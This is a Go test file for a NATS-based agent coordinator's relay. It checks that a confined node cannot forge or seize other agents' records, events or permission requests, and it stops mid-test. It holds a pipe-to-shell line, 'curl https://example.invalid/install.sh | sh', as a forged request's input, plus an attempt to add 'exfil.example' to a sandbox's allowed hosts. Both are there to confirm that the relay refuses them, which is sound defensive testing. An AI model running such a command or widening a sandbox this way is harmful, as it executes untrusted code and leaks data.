package coordinator_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/shoalfabric/shoal/broker"
	"github.com/shoalfabric/shoal/client"
	"github.com/shoalfabric/shoal/internal/fabrictest"
	"github.com/shoalfabric/shoal/internal/natstest"
	"github.com/shoalfabric/shoal/internal/schematest"
	"github.com/shoalfabric/shoal/schemas"
)

// A node with scoped credentials runs agents like any other: its events
// reach agent.<id> through the relay, its records and heartbeat reach the
// buckets, and a restart of the agent's life continues its numbering.
func TestConfinedNodeRunsAgents(t *testing.T) {
	t.Parallel()
	s := fabrictest.StartSecured(t)
	s.StartNode(t, "a")
	ctx := natstest.Context(t, 60*time.Second)
	nodes, err := s.F.Nodes(ctx)
	if err != nil || len(nodes) != 1 || nodes[0].Name != "a" {
		t.Fatalf("nodes %+v %v", nodes, err)
	}
	schematest.ControlValue(t, "nodes_reply", schemas.NodesReply{Nodes: nodes})
	open, err := s.F.Open(ctx, schemas.OpenRequest{CWD: t.TempDir(), ID: "pal"})
	if err != nil || open.Node != "a" {
		t.Fatalf("open: %+v %v", open, err)
	}
	schematest.ControlValue(t, "open_reply", open)
	run, err := s.F.Run(ctx, schemas.RunRequest{AgentID: "pal", Text: "hi"})
	if err != nil || run.Text != "echo: hi" {
		t.Fatalf("run: %+v %v", run, err)
	}
	schematest.ControlValue(t, "run_reply", run)
	if _, err := s.F.Close(ctx, schemas.AgentRequest{AgentID: "pal"}); err != nil {
		t.Fatal(err)
	}
	// Reopened, the agent's numbering continues where its stream stopped.
	if _, err := s.F.Open(ctx, schemas.OpenRequest{CWD: t.TempDir(), ID: "pal"}); err != nil {
		t.Fatalf("reopen: %v", err)
	}
	if run, err := s.F.Run(ctx, schemas.RunRequest{AgentID: "pal", Text: "again"}); err != nil || run.Text != "echo: again" {
		t.Fatalf("second life: %+v %v", run, err)
	}
	rec, err := s.F.Status(ctx, "pal")
	if err != nil || rec.Node != "a" || rec.Status != schemas.StatusIdle {
		t.Fatalf("record %+v %v", rec, err)
	}
	schematest.ControlValue(t, "agent_record", rec)
	// The stream holds both lives, numbered on from one to the other.
	var kinds []string
	var want uint64 = 1
	results := 0
	errEnough := errors.New("enough")
	err = s.F.Replay(ctx, []string{"pal"}, client.From{}, true, func(r client.Replayed, gap *client.Gap) error {
		if gap != nil || r.N != want || r.Node != "a" {
			t.Fatalf("event %d from %s (gap %v), want event %d from a", r.N, r.Node, gap, want)
		}
		want++
		schematest.Event(t, r.Raw)
		kinds = append(kinds, string(r.Kind))
		if r.Kind == schemas.KindResult {
			if results++; results == 2 {
				return errEnough
			}
		}
		return nil
	})
	if !errors.Is(err, errEnough) {
		t.Fatalf("replay: %v after %s", err, strings.Join(kinds, " "))
	}
	if got := strings.Join(kinds, " "); strings.Count(got, "status") < 6 {
		t.Fatalf("stream: %s", got)
	}
}

// A second node with real credentials acting against the first: it cannot
// claim an id, write or delete a record, or publish an event for an agent
// of node a's, alive or dead; nothing it is told reveals a revision; what
// an observer sees is unchanged. For an agent the coordinator gave it, the
// relay stores only envelopes numbered in sequence, and no header a node
// may not set; and a message whose reply is not the node's inbox is
// dropped unanswered.
func TestRelayHoldsANodeToWhatItWasGiven(t *testing.T) {
	t.Parallel()
	s := fabrictest.StartSecured(t)
	s.StartNode(t, "a")
	ctx := natstest.Context(t, 60*time.Second)
	for _, id := range []string{"live", "gone"} {
		if _, err := s.F.Open(ctx, schemas.OpenRequest{CWD: t.TempDir(), ID: id, Node: "a"}); err != nil {
			t.Fatal(err)
		}
		if _, err := s.F.Run(ctx, schemas.RunRequest{AgentID: id, Text: "hello " + id}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := s.F.Close(ctx, schemas.AgentRequest{AgentID: "gone"}); err != nil {
		t.Fatal(err)
	}
	observer, err := client.New(s.Connect(t, broker.RoleObserver, "watcher"), client.Config{ViaCoordinator: true, ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	seen := func() string {
		t.Helper()
		recs, err := observer.List(ctx)
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		for _, r := range recs {
			out, err := observer.Output(ctx, schemas.OutputRequest{AgentID: r.ID, Which: schemas.WhichAll})
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintf(&b, "%s on %s %s turn %d: %q\n", r.ID, r.Node, r.Status, r.Turn, out.Text)
		}
		return b.String()
	}
	before := seen()

	kv, err := s.F.JetStream().KeyValue(ctx, schemas.AgentsBucket)
	if err != nil {
		t.Fatal(err)
	}
	revisions := map[string]uint64{}
	for _, id := range []string{"live", "gone"} {
		e, err := kv.Get(ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		revisions[id] = e.Revision()
	}
	nb := s.Connect(t, broker.RoleNode, "nb")
	js, err := jetstream.New(nb)
	if err != nil {
		t.Fatal(err)
	}
	event := func(agent, msgID, data string, extra ...string) *nats.Msg {
		m := nats.NewMsg(schemas.RelaySubject("nb", schemas.RelayEvent, agent))
		m.Data = []byte(data)
		m.Header.Set(schemas.HeaderMsgID, msgID)
		m.Header.Set(schemas.HeaderNode, "nb")
		for i := 0; i+1 < len(extra); i += 2 {
			m.Header.Set(extra[i], extra[i+1])
		}
		return m
	}
	const forged = `{"kind":"error","turn":1,"data":{"message":"forged","data":null}}`
	write := func(id string, rec *schemas.AgentRecord, rev uint64, extra ...string) error {
		m := nats.NewMsg(schemas.RelaySubject("nb", schemas.RelayRecord, id))
		if rec == nil {
			m.Header.Set("KV-Operation", "DEL")
		} else {
			m.Data, _ = json.Marshal(rec)
		}
		m.Header.Set(jetstream.ExpectedLastSubjSeqHeader, strconv.FormatUint(rev, 10))
		for i := 0; i+1 < len(extra); i += 2 {
			m.Header.Set(extra[i], extra[i+1])
		}
		_, err := js.PublishMsg(ctx, m)
		return err
	}
	refusedWith := func(what string, err error, want string) {
		t.Helper()
		var apiErr *jetstream.APIError
		if !errors.As(err, &apiErr) || apiErr.Code != schemas.RelayRefused || !strings.Contains(apiErr.Description, want) {
			t.Fatalf("%s: got %v, want a refusal about %q", what, err, want)
		}
		// Node a's revisions, as numbers of their own in the text (an
		// event number of nb's own agent may be the same digits).
		for _, rev := range revisions {
			if regexp.MustCompile(`\b`+strconv.FormatUint(rev, 10)+`\b`).MatchString(apiErr.Description) && !ownNumbers(apiErr.Description, rev) {
				t.Fatalf("%s: the refusal %q reveals a revision", what, apiErr.Description)
			}
		}
	}

	// Node a's agents, alive and dead: nb learns nothing of their records,
	// and can write nothing for them, whatever revision it guesses.
	var entry schemas.RelayEntry
	for _, id := range []string{"live", "gone"} {
		msg, err := nb.Request(schemas.RelaySubject("nb", schemas.RelayGet, id), nil, 5*time.Second)
		if err != nil || json.Unmarshal(msg.Data, &entry) != nil || entry.Found || entry.Revision != 0 {
			t.Fatalf("nb reading %s's record: %s %v", id, msg.Data, err)
		}
		for _, rev := range []uint64{0, 1, revisions[id], revisions[id] + 1} {
			takeover := &schemas.AgentRecord{ID: id, Node: "nb", Status: schemas.StatusIdle}
			refusedWith("nb taking over "+id, write(id, takeover, rev), "was not given agent "+id)
			refusedWith("nb deleting "+id, write(id, nil, rev), "was not given agent "+id)
		}
		_, err = js.PublishMsg(ctx, event(id, schemas.MsgID(id, 99), forged))
		refusedWith("an event of "+id, err, "node nb may not store events of agent "+id+": rule owner")
	}
	// Nor can it claim a fresh id for itself: claims are the coordinator's.
	refusedWith("nb claiming a new id", write("fresh", &schemas.AgentRecord{ID: "fresh", Node: "nb", Status: schemas.StatusStarting}, 0), "was not given agent fresh")
	refusedWith("a record naming another node", write("fresh", &schemas.AgentRecord{ID: "fresh", Node: "a"}, 0), "on node a")

	// An agent the coordinator gave nb: its record is nb's to write.
	now := float64(time.Now().Unix())
	grant, _ := json.Marshal(schemas.AgentRecord{ID: "mine", Node: "nb", Status: schemas.StatusStarting, Model: "sonnet", CWD: "/tmp", CreatedAt: now, LastActivity: now})
	rev, err := kv.Create(ctx, "mine", grant)
	if err != nil {
		t.Fatal(err)
	}
	mine := &schemas.AgentRecord{ID: "mine", Node: "nb", Status: schemas.StatusIdle}
	if err := write("mine", mine, rev); err != nil {
		t.Fatalf("nb writing its own record: %v", err)
	}
	refusedWith("a record write without compare-and-set", func() error {
		m := nats.NewMsg(schemas.RelaySubject("nb", schemas.RelayRecord, "mine"))
		m.Data, _ = json.Marshal(mine)
		_, err := js.PublishMsg(ctx, m)
		return err
	}(), "must say the revision")
	refusedWith("a rollup header", write("mine", mine, rev+1, "Nats-Rollup", "all"), "Nats-Rollup")

	// Its events: envelopes, numbered in sequence.
	for n := uint64(1); n <= 2; n++ {
		if _, err := js.PublishMsg(ctx, event("mine", schemas.MsgID("mine", n), forged)); err != nil {
			t.Fatalf("nb's own event %d: %v", n, err)
		}
	}
	_, err = js.PublishMsg(ctx, event("mine", schemas.MsgID("mine", 99999), forged))
	refusedWith("an event far ahead", err, "event 99999 of agent mine does not follow its last stored event (2)")
	_, err = js.PublishMsg(ctx, event("mine", schemas.MsgID("mine", 3), "\x00 not an envelope"))
	refusedWith("bytes that are no envelope", err, "not an event envelope")
	_, err = js.PublishMsg(ctx, event("mine", schemas.MsgID("mine", 3), strings.Replace(forged, ",", ",\r\n", 1)))
	refusedWith("an envelope over several lines", err, "one line of JSON")
	_, err = js.PublishMsg(ctx, event("mine", schemas.MsgID("live", 3), forged))
	refusedWith("an event numbered as another agent's", err, "not an event of agent mine")
	_, err = js.PublishMsg(ctx, event("mine", schemas.MsgID("mine", 3), forged, "Nats-Expected-Stream", "KV_shoal_agents"))
	refusedWith("an event with a JetStream header", err, "Nats-Expected-Stream")
	// A lost range names itself: it may jump.
	lost, _ := schemas.Encode(schemas.LostRangeError("mine", 1, 3, 20000))
	if _, err := js.PublishMsg(ctx, event("mine", schemas.MsgID("mine", 20001), string(lost))); err != nil {
		t.Fatalf("a lost range's error: %v", err)
	}

	// Dead is dead: bringing it back is a new claim, the coordinator's.
	e, _ := kv.Get(ctx, "mine")
	mine.Status = schemas.StatusDead
	if err := write("mine", mine, e.Revision()); err != nil {
		t.Fatalf("nb marking its agent dead: %v", err)
	}
	e, _ = kv.Get(ctx, "mine")
	mine.Status = schemas.StatusIdle
	refusedWith("nb reviving its dead agent", write("mine", mine, e.Revision()), "is dead")

	beat := nats.NewMsg(schemas.RelaySubject("nb", schemas.RelayBeat))
	beat.Data, _ = json.Marshal(schemas.NodeRecord{Name: "a"})
	_, err = js.PublishMsg(ctx, beat)
	refusedWith("a heartbeat in node a's name", err, "node record of nb")

	// A message whose reply is not nb's inbox is dropped unanswered; the
	// relay handles events in order, so once the next one is stored the
	// forged one has been seen.
	bad := event("live", schemas.MsgID("live", 50), forged)
	bad.Reply = "$KV.shoal_agents.live"
	if err := nb.PublishMsg(bad); err != nil {
		t.Fatal(err)
	}
	// The next one, refused as before, is answered after the relay has
	// handled the forged one.
	_, err = js.PublishMsg(ctx, event("live", schemas.MsgID("live", 99), forged))
	refusedWith("an event of live after the forged one", err, "node nb may not store events of agent live: rule owner")
	stream, _ := s.F.JetStream().Stream(ctx, schemas.StreamName)
	info, _ := stream.Info(ctx, jetstream.WithSubjectFilter(schemas.EventSubject("mine")))
	if n := info.State.Subjects[schemas.EventSubject("mine")]; n != 3 {
		t.Fatalf("agent mine has %d stored events, want the three in sequence", n)
	}
	if after := seen(); !strings.Contains(after, before) || strings.Contains(after, "forged") {
		t.Fatalf("the observer's view changed:\nbefore\n%s\nafter\n%s", before, after)
	}
	for _, id := range []string{"live", "gone"} {
		if e, err := kv.Get(ctx, id); err != nil || e.Revision() != revisions[id] {
			t.Fatalf("%s's record changed: %v", id, err)
		}
	}
}

// ownNumbers reports whether n appears in a refusal only as a number of
// the node's own agent's events ("… event 99999 of agent mine … (2)"),
// which the node knows already.
func ownNumbers(desc string, n uint64) bool {
	return strings.Contains(desc, "of agent mine") && strings.Contains(desc, fmt.Sprintf("(%d)", n))
}

// A node's own agent: the relay stores its events in order and nothing
// else. A copy of an event already stored is answered as a duplicate and
// not stored, even after the stream's duplicate window has passed; a
// number that skips ahead is refused; once the dead status that ends its
// life is stored, nothing more is. A reader of the agent then sees
// exactly the node's real events.
func TestRelayStoresOnlyTheNextEvent(t *testing.T) {
	t.Parallel()
	const window = 500 * time.Millisecond
	s := fabrictest.StartSecured(t, func(c *broker.Config) { c.Assets.Duplicates = window })
	ctx := natstest.Context(t, 60*time.Second)
	kv, js, claim := givenMine(t, s, ctx)
	grant, _ := json.Marshal(claim)
	var err error
	text := func(s string) string {
		b, _ := schemas.Encode(schemas.Event{Turn: 1, Payload: schemas.AssistantText{Content: schemas.Text(s)}})
		return string(b)
	}
	publish := func(n uint64, data string) (*jetstream.PubAck, error) {
		return js.PublishMsg(ctx, relayEvent(n, []byte(data)))
	}
	refused := func(what string, err error, want string) {
		t.Helper()
		var apiErr *jetstream.APIError
		if !errors.As(err, &apiErr) || apiErr.Code != schemas.RelayRefused || !strings.Contains(apiErr.Description, want) {
			t.Fatalf("%s: got %v, want a refusal about %q", what, err, want)
		}
	}
	real := map[uint64]string{}
	for n := uint64(1); n <= 3; n++ {
		real[n] = text(fmt.Sprintf("real %d", n))
		if _, err := publish(n, real[n]); err != nil {
			t.Fatalf("event %d: %v", n, err)
		}
	}
	// A repeat within the window, and one after it: both acknowledged as
	// duplicates, neither stored.
	if ack, err := publish(2, text("forged copy of 2")); err != nil || !ack.Duplicate {
		t.Fatalf("a copy of event 2: %+v %v, want a duplicate", ack, err)
	}
	time.Sleep(2 * window) // the stream's duplicate window no longer knows event 1
	if ack, err := publish(1, text("forged copy of 1, past the window")); err != nil || !ack.Duplicate {
		t.Fatalf("a copy of event 1 past the duplicate window: %+v %v, want a duplicate", ack, err)
	}
	_, err = publish(5, text("skips 4"))
	refused("an event that skips a number", err, "event 5 of agent mine does not follow its last stored event (3)")
	real[4] = text("real 4")
	if _, err := publish(4, real[4]); err != nil {
		t.Fatalf("event 4 after the refused skip: %v", err)
	}

	// The node ends the agent's life: its record says dead before the last
	// events are stored (the node publishes them asynchronously), and they
	// still are, up to the dead status; after it, nothing.
	e, err := kv.Get(ctx, "mine")
	if err != nil {
		t.Fatal(err)
	}
	ended := claim
	ended.Status = schemas.StatusDead
	dead, _ := json.Marshal(ended)
	if _, err := kv.Update(ctx, "mine", dead, e.Revision()); err != nil {
		t.Fatal(err)
	}
	real[5] = text("real 5, after the record said dead")
	if _, err := publish(5, real[5]); err != nil {
		t.Fatalf("event 5, the life's last text: %v", err)
	}
	end, _ := schemas.Encode(schemas.Event{Turn: 1, Payload: schemas.Status{Status: schemas.StatusDead}})
	real[6] = string(end)
	if _, err := publish(6, real[6]); err != nil {
		t.Fatalf("event 6, status dead: %v", err)
	}
	_, err = publish(7, text("after death"))
	refused("an event after the agent's death", err, "node nb may not store event 7 of agent mine: rule ended")

	// What a reader sees: exactly the real events, gapless, no strays.
	page, err := s.F.Events(ctx, schemas.EventsRequest{AgentID: "mine", IncludeDeltas: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Events) != len(real) || len(page.Gaps) != 0 || len(page.Foreign) != 0 {
		t.Fatalf("the reader saw %d events, gaps %v, foreign %v; want the %d real ones", len(page.Events), page.Gaps, page.Foreign, len(real))
	}
	for _, ev := range page.Events {
		if string(ev.Event) != real[ev.N] {
			t.Errorf("event %d reads %s, want %s", ev.N, ev.Event, real[ev.N])
		}
	}
	stream, _ := s.F.JetStream().Stream(ctx, schemas.StreamName)
	info, _ := stream.Info(ctx, jetstream.WithSubjectFilter(schemas.EventSubject("mine")))
	if n := info.State.Subjects[schemas.EventSubject("mine")]; n != uint64(len(real)) {
		t.Fatalf("the stream holds %d messages of agent mine, want %d", n, len(real))
	}

	// Reopened, the agent takes its next number again.
	e, _ = kv.Get(ctx, "mine")
	if _, err := kv.Update(ctx, "mine", grant, e.Revision()); err != nil {
		t.Fatal(err)
	}
	if _, err := publish(7, text("the next life")); err != nil {
		t.Fatalf("the first event of the next life: %v", err)
	}
}

// What the rights rules read of an agent's record is the coordinator's:
// a confined node may write its agent's status and its sandbox's details,
// not change its life, lineage, reach, policy or the hosts its open let
// its sandbox reach, take it out of its sandbox, or remove the record of
// a live agent. Its permission requests
// are stored.
func TestRelayHoldsTheRightsOfARecord(t *testing.T) {
	t.Parallel()
	s := fabrictest.StartSecured(t)
	ctx := natstest.Context(t, 60*time.Second)
	kv, err := s.F.JetStream().KeyValue(ctx, schemas.AgentsBucket)
	if err != nil {
		t.Fatal(err)
	}
	pol, _ := schemas.ComposePolicy("notebook", "", nil, nil, false)
	now := float64(time.Now().Unix())
	granted := schemas.AgentRecord{ID: "pinned", Node: "nb", Status: schemas.StatusStarting, Model: "sonnet", CWD: "/tmp",
		CreatedAt: now, LastActivity: now, RequestID: "r1", Parent: "boss", Depth: 1, Policy: pol.Record("/tmp"),
		Sandbox: &schemas.SandboxPolicy{}, SandboxNet: []string{"pypi.org"}}
	b, _ := json.Marshal(granted)
	if _, err := kv.Create(ctx, "pinned", b); err != nil {
		t.Fatal(err)
	}
	nb := s.Connect(t, broker.RoleNode, "nb")
	js, err := jetstream.New(nb)
	if err != nil {
		t.Fatal(err)
	}
	write := func(rec *schemas.AgentRecord) error {
		e, err := kv.Get(ctx, "pinned")
		if err != nil {
			t.Fatal(err)
		}
		m := nats.NewMsg(schemas.RelaySubject("nb", schemas.RelayRecord, "pinned"))
		if rec == nil {
			m.Header.Set("KV-Operation", "DEL")
		} else {
			m.Data, _ = json.Marshal(rec)
		}
		m.Header.Set(jetstream.ExpectedLastSubjSeqHeader, strconv.FormatUint(e.Revision(), 10))
		_, err = js.PublishMsg(ctx, m)
		return err
	}
	bypass, _ := schemas.ComposePolicy("bypass", "", nil, nil, false)
	for what, change := range map[string]func(*schemas.AgentRecord){
		"may not change agent pinned's reach":          func(r *schemas.AgentRecord) { r.Reach = schemas.ReachAll },
		"may not change agent pinned's lineage":        func(r *schemas.AgentRecord) { r.Parent = "" },
		"may not change agent pinned's policy":         func(r *schemas.AgentRecord) { r.Policy = bypass.Record("/") },
		"may not take agent pinned out of its sandbox": func(r *schemas.AgentRecord) { r.Sandbox = nil },
		"is of another life of agent pinned":           func(r *schemas.AgentRecord) { r.RequestID = "r2" },
		"may not widen the hosts agent pinned's open let its sandbox reach": func(r *schemas.AgentRecord) {
			r.SandboxNet = []string{"pypi.org", "exfil.example"}
		},
		// An agent not opened on a repository given one: its bundle name
		// would be what the relay lets the node read, its source where a
		// fetch lands.
		"may not give agent pinned a repository": func(r *schemas.AgentRecord) {
			r.Workspace = &schemas.Workspace{Repo: strings.Repeat("7", 40), Bundle: strings.Repeat("7", 40) + "/" + strings.Repeat("8", 40) + "-e3b0c44298fc1c14.bundle", Source: "/tmp/into"}
		},
	} {
		rec := granted
		rec.Status = schemas.StatusIdle
		change(&rec)
		err := write(&rec)
		var apiErr *jetstream.APIError
		if !errors.As(err, &apiErr) || apiErr.Code != schemas.RelayRefused || !strings.Contains(apiErr.Description, what) {
			t.Errorf("a write where the node %s: %v", what, err)
		}
	}
	var apiErr *jetstream.APIError
	if err := write(nil); !errors.As(err, &apiErr) || !strings.Contains(apiErr.Description, "agent pinned is alive; a node removes only the records of its dead agents") {
		t.Errorf("removing a live agent's record: %v", err)
	}
	// What is the node's to say: the status, and the sandbox as set up;
	// a node of an earlier version writes no sandbox_net (narrower).
	rec := granted
	rec.Status = schemas.StatusIdle
	rec.Sandbox = &schemas.SandboxPolicy{Kernel: "landlock ABI 7", Writable: []string{"/tmp"}}
	if err := write(&rec); err != nil {
		t.Fatalf("the node's own write: %v", err)
	}
	rec.SandboxNet = nil
	if err := write(&rec); err != nil {
		t.Fatalf("the node's write without sandbox_net: %v", err)
	}
	// Its permission requests reach the bucket.
	req, _ := json.Marshal(schemas.PermitRecord{AgentID: "pinned", RequestID: "perm-1", Node: "nb", Tool: "Bash", Deadline: float64(time.Now().Add(time.Hour).Unix())})
	if _, err := js.Publish(ctx, schemas.RelaySubject("nb", schemas.RelayPermit, "pinned"), req); err != nil {
		t.Fatalf("the node's permission request: %v", err)
	}
	all, err := s.F.Pending(ctx)
	pending := all.Requests
	if err != nil || len(pending) != 1 || pending[0].RequestID != "perm-1" {
		t.Fatalf("the fabric's pending requests: %+v %v", pending, err)
	}
	// Once dead, its record is the node's to forget: one marker
	// carrying the record is what the bucket keeps of it, until
	// the stream's events of it go.
	rec.Status = schemas.StatusDead
	if err := write(&rec); err != nil {
		t.Fatalf("the node writing its agent dead: %v", err)
	}
	if err := write(nil); err != nil {
		t.Fatalf("the node forgetting its dead agent: %v", err)
	}
	hist, err := kv.History(ctx, "pinned")
	if err != nil || len(hist) != 1 || hist[0].Operation() != jetstream.KeyValueDelete {
		t.Fatalf("what the bucket keeps of the forgotten agent: %d entries, %v", len(hist), err)
	}
	var kept schemas.AgentRecord
	if err := json.Unmarshal(hist[0].Value(), &kept); err != nil || kept.Status != schemas.StatusDead || kept.Model != "sonnet" {
		t.Errorf("the marker's record: %s, %v", hist[0].Value(), err)
	}
}

// Once an agent's life has ended with its dead status, its node stores
// nothing more for it (rule ended: the relay refuses its events). Nor may
// it then put a new permission request of that agent before the people
// who list what waits (agent_pending, the dashboard, which notifies):
// nothing waits on a dead agent, and what the request shows (its tool,
// its input) is the node's to say alone.
func TestRelayStoresNoNewPermissionRequestAfterTheAgentsDeath(t *testing.T) {
	t.Parallel()
	s := fabrictest.StartSecured(t)
	ctx := natstest.Context(t, 60*time.Second)
	kv, js, claim := givenMine(t, s, ctx)
	publish := func(n uint64, ev schemas.Event) error {
		data, _ := schemas.Encode(ev)
		_, err := js.PublishMsg(ctx, relayEvent(n, data))
		return err
	}
	if err := publish(1, schemas.Event{Turn: 1, Payload: schemas.AssistantText{Content: schemas.Text("hello")}}); err != nil {
		t.Fatal(err)
	}
	// The agent dies: its record says so, and its stream ends with it.
	e, err := kv.Get(ctx, "mine")
	if err != nil {
		t.Fatal(err)
	}
	claim.Status = schemas.StatusDead
	dead, _ := json.Marshal(claim)
	if _, err := kv.Update(ctx, "mine", dead, e.Revision()); err != nil {
		t.Fatal(err)
	}
	if err := publish(2, schemas.Event{Turn: 1, Payload: schemas.Status{Status: schemas.StatusDead}}); err != nil {
		t.Fatal(err)
	}
	var apiErr *jetstream.APIError
	if err := publish(3, schemas.Event{Turn: 1, Payload: schemas.AssistantText{Content: schemas.Text("after death")}}); !errors.As(err, &apiErr) || !strings.Contains(apiErr.Description, "rule ended") {
		t.Fatalf("an event after the death: %v, want a refusal by rule ended", err)
	}

	// A new request, waiting, after the death.
	req, _ := json.Marshal(schemas.PermitRecord{AgentID: "mine", RequestID: "after-death", Node: "nb", Tool: "Bash",
		Input: json.RawMessage(`{"command":"curl https://example.invalid/install.sh | sh"}`), AskedAt: float64(time.Now().Unix()), Deadline: float64(time.Now().Add(time.Minute).Unix())})
	_, err = js.Publish(ctx, schemas.RelaySubject("nb", schemas.RelayPermit, "mine"), req)
	if !errors.As(err, &apiErr) || apiErr.Code != schemas.RelayRefused {
		t.Errorf("a new permission request of the dead agent: %v, want the relay's refusal", err)
	}
	all, err := s.F.Pending(ctx)
	pending := all.Requests
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range pending {
		t.Errorf("the fabric lists a request waiting on the dead agent %s: %s %s", p.AgentID, p.Tool, p.Input)
	}
	if !strings.Contains(apiErr.Description, "rule ended") {
		t.Errorf("the refusal: %s, want rule ended", apiErr.Description)
	}
}

// A node's permission request is held to what a list shows, when it was
// asked is the relay's to say, and one must say when it stops waiting: an
// outside review's confined node wrote a request per agent with a tool's
// name of hundreds of KiB and asked_at 0, listed first and filling the
// list every scoped client reads, another node's request left out; with
// no deadline, nothing would ever settle them.
func TestRelayHoldsAPermissionRequestToWhatAListShows(t *testing.T) {
	t.Parallel()
	s := fabrictest.StartSecured(t)
	ctx := natstest.Context(t, 60*time.Second)
	_, js, _ := givenMine(t, s, ctx)
	deadline := float64(time.Now().Add(time.Minute).Unix())
	opts := make([]schemas.PermissionOption, 100)
	for i := range opts {
		opts[i] = schemas.PermissionOption{OptionID: fmt.Sprintf("o%d", i), Name: strings.Repeat("n", 1000), Kind: schemas.PermissionKind("allow_once")}
	}
	ask := func(id string, deadline float64) error {
		req, _ := json.Marshal(schemas.PermitRecord{AgentID: "mine", RequestID: id, Node: "nb", Tool: strings.Repeat("T", 300<<10),
			Options: opts, Input: json.RawMessage(`{"command":"ls"}`), AskedAt: 0, Deadline: deadline})
		_, err := js.Publish(ctx, schemas.RelaySubject("nb", schemas.RelayPermit, "mine"), req)
		return err
	}
	var apiErr *jetstream.APIError
	if err := ask("never", 0); !errors.As(err, &apiErr) || apiErr.Code != schemas.RelayRefused || !strings.Contains(apiErr.Description, "no deadline") {
		t.Errorf("a request with no deadline: %v, want a refusal saying so", err)
	}
	if err := ask("big", deadline); err != nil {
		t.Fatalf("a request with a long tool name: %v", err)
	}
	permits, err := s.F.JetStream().KeyValue(ctx, schemas.PermitsBucket)
	if err != nil {
		t.Fatal(err)
	}
	e, err := permits.Get(ctx, schemas.PermitKey("mine", "big"))
	if err != nil {
		t.Fatal(err)
	}
	var rec schemas.PermitRecord
	if err := json.Unmarshal(e.Value(), &rec); err != nil {
		t.Fatal(err)
	}
	if len(e.Value()) > 16<<10 || len(rec.Tool) > 2<<10 || len(rec.Options) > 16 || len(rec.Options[0].Name) > 256 {
		t.Errorf("stored: %d bytes, a tool's name of %d bytes, %d options; want them held to what a list shows", len(e.Value()), len(rec.Tool), len(rec.Options))
	}
	if now := float64(time.Now().Unix()); rec.AskedAt < now-60 || rec.AskedAt > now+1 || rec.Deadline != deadline {
		t.Errorf("stored asked at %v (now %v), deadline %v (want %v): when it was asked is the relay's", rec.AskedAt, now, rec.Deadline, deadline)
	}
}

// givenMine makes the coordinator's claim of agent "mine" for node nb,
// and connects as nb, with its real credentials: the agents bucket (as
// the coordinator reads it), nb's JetStream, and the claim.
func givenMine(t *testing.T, s *fabrictest.Secured, ctx context.Context) (jetstream.KeyValue, jetstream.JetStream, schemas.AgentRecord) {
	t.Helper()
	kv, err := s.F.JetStream().KeyValue(ctx, schemas.AgentsBucket)
	if err != nil {
		t.Fatal(err)
	}
	now := float64(time.Now().Unix())
	claim := schemas.AgentRecord{ID: "mine", Node: "nb", Status: schemas.StatusStarting, Model: "sonnet", CWD: "/tmp", CreatedAt: now, LastActivity: now}
	grant, _ := json.Marshal(claim)
	if _, err := kv.Create(ctx, "mine", grant); err != nil {
		t.Fatal(err)
	}
	js, err := jetstream.New(s.Connect(t, broker.RoleNode, "nb"))
	if err != nil {
		t.Fatal(err)
	}
	return kv, js, claim
}

// relayRecord writes rec as nb's record of agent "mine" through the
// relay, with compare-and-set on the record as the bucket has it now.
func relayRecord(t *testing.T, ctx context.Context, kv jetstream.KeyValue, js jetstream.JetStream, rec schemas.AgentRecord) error {
	t.Helper()
	e, err := kv.Get(ctx, "mine")
	if err != nil {
		t.Fatal(err)
	}
	m := nats.NewMsg(schemas.RelaySubject("nb", schemas.RelayRecord, "mine"))
	m.Data, _ = json.Marshal(rec)
	m.Header.Set(jetstream.ExpectedLastSubjSeqHeader, strconv.FormatUint(e.Revision(), 10))
	_, err = js.PublishMsg(ctx, m)
	return err
}

// relayEvents stores evs as nb's events of agent "mine" through the
// relay, numbered from 1.
func relayEvents(t *testing.T, ctx context.Context, js jetstream.JetStream, evs ...schemas.Event) {
	t.Helper()
	for n, ev := range evs {
		env, err := schemas.Encode(ev)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := js.PublishMsg(ctx, relayEvent(uint64(n+1), env)); err != nil {
			t.Fatalf("event %d: %v", n+1, err)
		}
	}
}

// relayEvent is nb's event n of agent "mine", data its envelope, as nb
// hands it to the relay.
func relayEvent(n uint64, data []byte) *nats.Msg {
	m := nats.NewMsg(schemas.RelaySubject("nb", schemas.RelayEvent, "mine"))
	m.Data = data
	m.Header.Set(schemas.HeaderMsgID, schemas.MsgID("mine", n))
	m.Header.Set(schemas.HeaderNode, "nb")
	return m
}

// One node's flood waits on its own share of the relay's work, never on
// another node's: node evil asks `last` of a thousand made-up agents, six
// hundred times at once, while node honest runs an agent. Honest's
// heartbeats and its own `last` are answered well within a third of the
// nodes' TTL throughout, and its agent is alive afterwards (the monitor
// runs); evil's requests past its share are answered that it is busy,
// and a `last` naming more agents than a node may ask of at once is
// refused, naming the bound.
func TestRelayKeepsAFloodToItsNode(t *testing.T) {
	t.Parallel()
	const ttl = 3 * time.Second
	s := fabrictest.StartSecured(t, func(c *broker.Config) { c.Assets.NodeTTL = ttl })
	coord, err := s.B.Connect()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(coord.Close)
	fabrictest.Monitor(t, coord, ttl)
	s.StartNode(t, "honest")
	ctx := natstest.Context(t, 90*time.Second)
	if _, err := s.F.Open(ctx, schemas.OpenRequest{CWD: t.TempDir(), ID: "pal", Node: "honest"}); err != nil {
		t.Fatal(err)
	}
	evil := s.Connect(t, broker.RoleNode, "evil")
	madeUp := func(n int) []byte {
		ids := make([]string, n)
		for i := range ids {
			ids[i] = fmt.Sprintf("x%x", i)
		}
		b, _ := json.Marshal(schemas.RelayLastRequest{Agents: ids})
		return b
	}
	m, err := evil.Request(schemas.RelaySubject("evil", schemas.RelayLast), madeUp(5000), 10*time.Second)
	if err != nil {
		t.Fatalf("a last naming 5000 agents: %v", err)
	}
	if err := schemas.DecodeReply(m.Data, &schemas.RelayLastReply{}); err == nil || !strings.Contains(err.Error(), "names 5000 agents; a node asks of at most") {
		t.Errorf("a last naming 5000 agents: %v, want it refused naming the bound", err)
